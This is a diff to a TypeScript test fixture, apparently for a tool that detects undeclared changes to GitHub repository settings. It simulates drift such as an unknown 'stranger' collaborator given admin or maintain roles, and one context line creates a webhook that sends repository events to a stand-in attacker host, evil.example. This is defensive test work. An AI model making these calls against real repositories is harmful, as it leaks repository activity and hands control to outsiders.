@@ -480,8 +480,17 @@ export const outOfBand: readonly OutOfBand[] = [
   one("webhook to evil.example is told what happens here, and nobody declared it", ({ api, where }) =>
     api.rest.repos.createWebhook({ ...where, config: { url: "https://evil.example/secret-path" } }),
   ),
-  one("collaborator stranger has the role admin, which nobody declared", ({ api, where }) =>
-    api.rest.repos.addCollaborator({ ...where, username: "stranger", permission: "admin" }),
+  one("collaborator stranger has the role admin, which nobody declared", ({ repository }) =>
+    repository.collaborators.set("stranger", "admin"),
+  ),
+  one("collaborator stranger is invited with the role maintain, and nobody declared it", ({ api, where }) =>
+    api.rest.repos.addCollaborator({ ...where, username: "stranger", permission: "maintain" }),
+  ),
+  one("collaborator writer: the role is read, declared is: the role is triage", ({ repository }) =>
+    repository.collaborators.set("writer", "read"),
+  ),
+  one("collaborator writer is declared and not there", ({ api, where }) =>
+    api.rest.repos.removeCollaborator({ ...where, username: "writer" }),
   ),
   one("collaborator reader has the role write, which nobody declared", ({ repository }) =>
     repository.collaborators.set("reader", "write"),
